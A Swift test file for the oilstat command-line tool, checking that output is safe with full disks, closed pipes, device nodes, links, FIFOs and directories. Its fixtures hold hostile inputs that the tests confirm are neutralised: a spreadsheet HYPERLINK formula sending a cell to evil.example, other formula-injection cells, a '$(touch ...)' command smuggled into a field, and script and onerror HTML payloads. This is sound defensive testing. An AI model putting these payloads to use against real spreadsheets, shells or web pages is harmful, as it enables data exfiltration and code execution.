import Foundation
import Testing

#if canImport(Glibc)
    import Glibc
#endif

/// Issue 8, safe outputs: standard output that cannot be written, closed pipes, `--output` onto devices, links,
/// FIFOs and directories, formula injection in the JODI fast path and HTML in the report's Markdown twin.
@Suite(.serialized)
struct OutputSafetyTests {
    /// How a run ended, for runs whose standard output is not a plain pipe.
    struct Ending {
        var reason: Process.TerminationReason
        var status: Int32
        var errorOutput: String
    }

    /// Runs `executable arguments` with `standardOutput` as its standard output and the test database.
    static func run(
        _ executable: URL, _ arguments: [String], standardOutput: FileHandle, runner: CommandRunner,
        currentDirectory: URL? = nil
    ) throws -> Ending {
        let process = Process()
        process.executableURL = executable
        process.arguments = arguments
        var environment = ProcessInfo.processInfo.environment
        environment["OILSTAT_DATABASE"] = runner.databasePath
        environment["OILSTAT_DATA"] = CommandRunner.repository.appendingPathComponent("Data").path
        environment["OILSTAT"] = CommandRunner.binary.path
        process.environment = environment
        if let currentDirectory { process.currentDirectoryURL = currentDirectory }
        let err = Pipe()
        process.standardOutput = standardOutput
        process.standardError = err
        try process.run()
        let errData = err.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        return Ending(
            reason: process.terminationReason, status: process.terminationStatus,
            errorOutput: String(decoding: errData, as: UTF8.self))
    }

    /// Runs a `/bin/sh` script in which `$OILSTAT` is the built binary.
    static func shell(
        _ script: String, standardOutput: FileHandle, runner: CommandRunner = CommandRunner(),
        currentDirectory: URL? = nil
    ) throws -> Ending {
        try run(
            URL(fileURLWithPath: "/bin/sh"), ["-c", script], standardOutput: standardOutput, runner: runner,
            currentDirectory: currentDirectory)
    }

    static let newsShare = ["share", "--month", "2018-10", "--source", "news report"]

    static var sampleJODI: String {
        CommandRunner.repository.appendingPathComponent("Tests/OilStatImportTests/Fixtures/jodi_openbb_sample.csv").path
    }

    /// A JODI file whose share output is about 1 MB: more than a pipe holds.
    static func largeJODI(in folder: URL) throws -> String {
        var text = "REF_AREA,TIME_PERIOD,ENERGY_PRODUCT,FLOW_BREAKDOWN,UNIT_MEASURE,OBS_VALUE,ASSESSMENT_CODE\n"
        for country in 0..<200 {
            for year in 2010...2017 {
                for month in 1...12 {
                    let period = "\(year)-\(month < 10 ? "0" : "")\(month)"
                    text += "C\(country),\(period),CRUDEOIL,INDPROD,KBD,\(1000 + country),1\n"
                }
            }
        }
        let path = folder.appendingPathComponent("large-jodi.csv").path
        try Data(text.utf8).write(to: URL(fileURLWithPath: path))
        return path
    }

    // MARK: standard output

    @Test(arguments: [
        ["producers"],
        ["share", "--month", "2018-10", "--source", "news report"],
        ["chart", "share", "--month", "2019-12", "--output", "-"],
        ["share", "--all-months", "--jodi", sampleJODI],
    ])
    func standardOutputOnAFullDiskIsOneLineAndStatusOne(arguments: [String]) throws {
        let full = try #require(FileHandle(forWritingAtPath: "/dev/full"))
        let ending = try Self.run(CommandRunner.binary, arguments, standardOutput: full, runner: CommandRunner())
        #expect(ending.reason == .exit && ending.status == 1)
        #expect(ending.errorOutput == "Error: <stdout>: cannot write (No space left on device)\n")
    }

    /// A pipe with no reader: the first write fails, deterministically.
    static func pipeWithoutReader() -> FileHandle {
        var ends: [Int32] = [0, 0]
        _ = pipe(&ends)
        close(ends[0])
        return FileHandle(fileDescriptor: ends[1], closeOnDealloc: true)
    }

    @Test(arguments: [
        "exec \"$OILSTAT\" producers",
        "trap '' PIPE; exec \"$OILSTAT\" producers",
        "trap '' PIPE; exec \"$OILSTAT\" share --month 2018-10 --source 'news report' --format table",
        "trap '' PIPE; exec \"$OILSTAT\" chart share --month 2019-12 --output -",
    ])
    func aClosedPipeEndsTheProcessQuietlyBySIGPIPE(script: String) throws {
        // With SIGPIPE at its default the kernel ends the process; with SIGPIPE ignored (trap '' PIPE) the write
        // returns EPIPE and oilstat ends itself the same way: no message, signal 13 (status 141 in the shell).
        let ending = try Self.shell(script, standardOutput: Self.pipeWithoutReader())
        #expect(ending.reason == .uncaughtSignal && ending.status == SIGPIPE)
        #expect(ending.errorOutput.isEmpty)
    }

    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: "/bin/bash"), "needs bash for PIPESTATUS"))
    func headOneReadsTheFirstLineAndOilstatEndsQuietly() throws {
        let folder = try ChartCommandTests.workingDirectory()
        let input = try Self.largeJODI(in: folder)
        for ignore in ["", "trap '' PIPE; "] {
            let out = Pipe()
            let script =
                "\(ignore)\"$OILSTAT\" share --all-months --jodi '\(input)' | head -1; "
                + "echo \"status ${PIPESTATUS[0]}\""
            let ending = try Self.run(
                URL(fileURLWithPath: "/bin/bash"), ["-c", script],
                standardOutput: out.fileHandleForWriting, runner: CommandRunner())
            try out.fileHandleForWriting.close()
            let text = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
            #expect(ending.status == 0)
            #expect(text == "country,month,kbd,share_pct,mom_change_kbd,mom_change_pct\nstatus 141\n", "\(ignore)")
            #expect(ending.errorOutput.isEmpty)
        }
    }

    // MARK: --output

    /// Whether this process is root. A root process running a build that renames over `--output` would replace
    /// the machine's `/dev/null` or `/dev/stdout`, so as root these are tested only in a private `/dev`.
    static let isRoot = geteuid() == 0

    @Test(.enabled(if: !isRoot, "as root this runs in a private /dev: deviceNodesInAPrivateDevAreWrittenNeverReplaced"))
    func outputDevStdoutWritesToStandardOutput() throws {
        let plain = try CommandRunner().run(["share", "--month", "2018-10", "--source", "news report"])
        let viaPath = try CommandRunner().run(Self.newsShare + ["--output", "/dev/stdout"])
        #expect(viaPath.status == 0)
        #expect(!plain.output.isEmpty && viaPath.output == plain.output)
        #expect(viaPath.errorOutput == "wrote /dev/stdout\n")
        let chart = try CommandRunner().run(["chart", "share", "--month", "2019-12", "--output", "/dev/stdout"])
        #expect(chart.status == 0 && chart.output.contains("<svg"))
    }

    @Test(.enabled(if: !isRoot, "as root this runs in a private /dev: deviceNodesInAPrivateDevAreWrittenNeverReplaced"))
    func outputDevNullIsWrittenAndStaysACharacterDevice() throws {
        var before = stat()
        #expect(stat("/dev/null", &before) == 0)
        for arguments in [
            ["share", "--month", "2018-10", "--source", "news report", "--output", "/dev/null"],
            ["chart", "share", "--month", "2019-12", "--output", "/dev/null"],
            ["share", "--all-months", "--jodi", Self.sampleJODI, "--output", "/dev/null"],
        ] {
            let result = try CommandRunner().run(arguments)
            #expect(result.status == 0, "\(result.errorOutput)")
            #expect(result.output.isEmpty)
        }
        var after = stat()
        #expect(lstat("/dev/null", &after) == 0)
        #expect(after.st_mode & S_IFMT == S_IFCHR && after.st_rdev == before.st_rdev && after.st_ino == before.st_ino)
    }

    static var rootWithNamespaces: Bool {
        isRoot && FileManager.default.isExecutableFile(atPath: "/usr/bin/unshare")
            && (try? Self.shell("unshare -m true", standardOutput: FileHandle.nullDevice).status) == 0
    }

    @Test(.enabled(if: rootWithNamespaces, "needs root and unshare -m for a private /dev (a user uses the real one)"))
    func deviceNodesInAPrivateDevAreWrittenNeverReplaced() throws {
        // The probe's reproduction: as root, --output /dev/full, /dev/null or /dev/stdout replaced the device node
        // (or link) with a regular file. Here /dev is a tmpfs of this mount namespace only; the real one is untouched.
        let plain = try CommandRunner().run(["share", "--month", "2018-10", "--source", "news report"])
        let script = """
            mount -t tmpfs tmpfs /dev && mknod -m 666 /dev/null c 1 3 && mknod -m 666 /dev/full c 1 7 \\
              && mknod -m 666 /dev/urandom c 1 9 && ln -s /proc/self/fd /dev/fd && ln -s /proc/self/fd/1 /dev/stdout \\
              && ln -s /proc/self/fd/2 /dev/stderr || exit 99
            "$OILSTAT" share --month 2018-10 --source 'news report' --output /dev/full; echo "full $?"
            "$OILSTAT" share --month 2018-10 --source 'news report' --output /dev/null; echo "null $?"
            "$OILSTAT" chart share --month 2019-12 --output /dev/null; echo "chart $?"
            "$OILSTAT" share --all-months --jodi '\(Self.sampleJODI)' --output /dev/null; echo "jodi $?"
            "$OILSTAT" share --month 2018-10 --source 'news report' --output /dev/stdout; echo "stdout $?"
            stat -c '%n %F %t,%T' /dev/full /dev/null; stat -c '%n %F' /dev/stdout
            """
        let out = Pipe()
        let ending = try Self.run(
            URL(fileURLWithPath: "/usr/bin/unshare"), ["-m", "sh", "-c", script],
            standardOutput: out.fileHandleForWriting, runner: CommandRunner())
        try out.fileHandleForWriting.close()
        let text = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        #expect(ending.status == 0, "\(ending.errorOutput)")
        #expect(
            text == """
                full 1
                null 0
                chart 0
                jodi 0
                \(plain.output)stdout 0
                /dev/full character special file 1,7
                /dev/null character special file 1,3
                /dev/stdout symbolic link

                """)
        #expect(
            ending.errorOutput == "Error: /dev/full: cannot write (No space left on device)\n"
                + "wrote /dev/null\nwrote /dev/null\nwrote /dev/stdout\n")
    }

    @Test func outputFollowsALinkIntoTheFileItNames() throws {
        let folder = try ChartCommandTests.workingDirectory()
        try "old\n".write(to: folder.appendingPathComponent("target.csv"), atomically: false, encoding: .utf8)
        symlink("target.csv", folder.appendingPathComponent("link.csv").path)
        let result = try CommandRunner().run(Self.newsShare + ["--output", "link.csv"], currentDirectory: folder)
        #expect(result.status == 0 && result.errorOutput == "wrote link.csv\n")
        let plain = try CommandRunner().run(["share", "--month", "2018-10", "--source", "news report"])
        #expect(try String(contentsOf: folder.appendingPathComponent("target.csv"), encoding: .utf8) == plain.output)
        let link = folder.appendingPathComponent("link.csv").path
        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: link) == "target.csv")
    }

    @Test func outputOntoADirectoryIsAnError() throws {
        let folder = try ChartCommandTests.workingDirectory()
        try FileManager.default.createDirectory(atPath: folder.path + "/out", withIntermediateDirectories: false)
        for arguments in [
            ["share", "--month", "2018-10", "--source", "news report", "--output", "out"],
            ["chart", "share", "--month", "2019-12", "--output", "out"],
            ["share", "--all-months", "--jodi", Self.sampleJODI, "--output", "out"],
        ] {
            let result = try CommandRunner().run(arguments, currentDirectory: folder)
            #expect(result.status == 1)
            #expect(result.errorOutput == "Error: out: is a directory, not a file\n")
        }
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.appendingPathComponent("out").path).isEmpty)
    }

    @Test func outputIntoAFIFOReachesItsReader() throws {
        let folder = try ChartCommandTests.workingDirectory()
        let fifo = folder.appendingPathComponent("pipe").path
        #expect(mkfifo(fifo, 0o600) == 0)
        // The reader holds the FIFO open (non-blocking) before oilstat opens it, so nothing can wait forever.
        let reader = open(fifo, O_RDONLY | O_NONBLOCK)
        #expect(reader >= 0)
        defer { close(reader) }
        let result = try CommandRunner().run(Self.newsShare + ["--output", fifo])
        #expect(result.status == 0, "\(result.errorOutput)")
        var buffer = [UInt8](repeating: 0, count: 65536)
        let count = read(reader, &buffer, buffer.count)
        let plain = try CommandRunner().run(["share", "--month", "2018-10", "--source", "news report"])
        #expect(String(decoding: buffer.prefix(max(count, 0)), as: UTF8.self) == plain.output)
        var info = stat()
        #expect(lstat(fifo, &info) == 0 && info.st_mode & S_IFMT == S_IFIFO)
    }

    @Test func aFailedWriteLeavesTheOldFileAndNoTemporaryFile() throws {
        // `ulimit -f` makes the write of the temporary file fail with EFBIG (SIGXFSZ ignored).
        let folder = try ChartCommandTests.workingDirectory()
        let input = try Self.largeJODI(in: folder)
        try "old\n".write(to: folder.appendingPathComponent("out.csv"), atomically: false, encoding: .utf8)
        let script =
            "trap '' XFSZ; ulimit -f 64; "
            + "exec \"$OILSTAT\" share --all-months --jodi '\(input)' --output out.csv"
        let ending = try Self.shell(script, standardOutput: FileHandle.nullDevice, currentDirectory: folder)
        #expect(ending.reason == .exit && ending.status == 1)
        #expect(ending.errorOutput == "Error: out.csv: cannot write (File too large)\n")
        #expect(try String(contentsOf: folder.appendingPathComponent("out.csv"), encoding: .utf8) == "old\n")
        let left = try FileManager.default.contentsOfDirectory(atPath: folder.path).sorted()
        #expect(left == ["large-jodi.csv", "out.csv"])
    }

    // MARK: CSV from the JODI fast path

    static let hostileCountries = """
        REF_AREA,TIME_PERIOD,ENERGY_PRODUCT,FLOW_BREAKDOWN,UNIT_MEASURE,OBS_VALUE,ASSESSMENT_CODE
        "=HYPERLINK(""http://evil.example/?""&A1,""x"")",2024-01,CRUDEOIL,INDPROD,KBD,600,1
        @SUM(1+1),2024-01,CRUDEOIL,INDPROD,KBD,500,1
        +1+1,2024-01,CRUDEOIL,INDPROD,KBD,400,1
        -1+1,2024-01,CRUDEOIL,INDPROD,KBD,300,1
        "a,b
        c",2024-01,CRUDEOIL,INDPROD,KBD,200,1
        "x""y",2024-01,CRUDEOIL,INDPROD,KBD,100,1
        SA,2023-12,CRUDEOIL,INDPROD,KBD,1000,1
        SA,2024-01,CRUDEOIL,INDPROD,KBD,999.99999,1

        """

    @Test func theJODIFastPathGuardsAndQuotesCountryCellsLikeEveryCSV() throws {
        let folder = try ChartCommandTests.workingDirectory()
        let path = folder.appendingPathComponent("hostile.csv").path
        try Data(Self.hostileCountries.utf8).write(to: URL(fileURLWithPath: path))
        let fast = try CommandRunner().run(["share", "--all-months", "--jodi", path, "--format", "csv"])
        #expect(fast.status == 0, "\(fast.errorOutput)")
        #expect(
            fast.output == """
                country,month,kbd,share_pct,mom_change_kbd,mom_change_pct
                SA,2023-12,1000.0000,100.0000,,
                SA,2024-01,1000.0000,32.2581,0.0000,0.0000
                "'=HYPERLINK(""http://evil.example/?""&A1,""x"")",2024-01,600.0000,19.3548,,
                '@SUM(1+1),2024-01,500.0000,16.1290,,
                '+1+1,2024-01,400.0000,12.9032,,
                '-1+1,2024-01,300.0000,9.6774,,
                "a,b
                c",2024-01,200.0000,6.4516,,
                "x""y",2024-01,100.0000,3.2258,,

                """)
        // The renderer path (taken for any --delimiter) gives the same bytes: one encoder.
        let rendered = try CommandRunner().run([
            "share", "--all-months", "--jodi", path, "--format", "csv",
            "--delimiter", ",",
        ])
        #expect(rendered.output == fast.output)
    }

    // MARK: the report's Markdown twin

    @Test func theReportsMarkdownCarriesNoLiveHTMLAndItsCommandsAreInert() throws {
        let folder = try ChartCommandTests.workingDirectory()
        let marker = folder.appendingPathComponent("pwned").path
        let source = "$(touch \(marker))"
        let csv = """
            producer,month,value,unit,source,note
            SA,2024-01,9000,kb/d,"\(source)",<img src=x onerror=alert(4)>
            RU,2024-01,9500,kb/d,"\(source)",</p><script>alert(5)</script>
            SA,2023-12,8900,kb/d,"\(source)",
            RU,2023-12,9400,kb/d,"\(source)",

            """
        try Data(csv.utf8).write(to: folder.appendingPathComponent("hostile.csv"))
        let runner = CommandRunner()
        let load = try runner.run(["load", "hostile.csv"], currentDirectory: folder)
        #expect(load.status == 0, "\(load.errorOutput)")
        let report = try runner.run(
            ["report", "--month", "2024-01", "--source", source, "--output-dir", "r"],
            currentDirectory: folder)
        #expect(report.status == 0, "\(report.errorOutput)")
        let markdown = try String(contentsOf: folder.appendingPathComponent("r/report-2024-01.md"), encoding: .utf8)
        for raw in ["<script", "<img", "</p>", "onerror=alert(4)>"] { #expect(!markdown.contains(raw), "\(raw)") }
        #expect(markdown.contains("Saudi Arabia: &lt;img src=x onerror=alert(4)&gt;"))
        #expect(markdown.contains("&lt;/p&gt;&lt;script&gt;alert(5)&lt;/script&gt;"))
        // The "reproduce" command quotes the source for the shell; run as written, it touches nothing.
        let line = try #require(markdown.split(separator: "\n").first { $0.hasPrefix("- Reproduce the tables") })
        let command = try #require(line.range(of: "oilstat share --month 2024-01 --source '\(source)'"))
        let shell = "\"$OILSTAT\"" + line[command].dropFirst("oilstat".count)
        let out = Pipe()
        let ending = try Self.shell(
            shell, standardOutput: out.fileHandleForWriting, runner: runner,
            currentDirectory: folder)
        try out.fileHandleForWriting.close()
        let table = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        #expect(ending.status == 0, "\(ending.errorOutput)")
        #expect(table.contains("RU,Russia,9500"))
        #expect(!FileManager.default.fileExists(atPath: marker))
    }
}
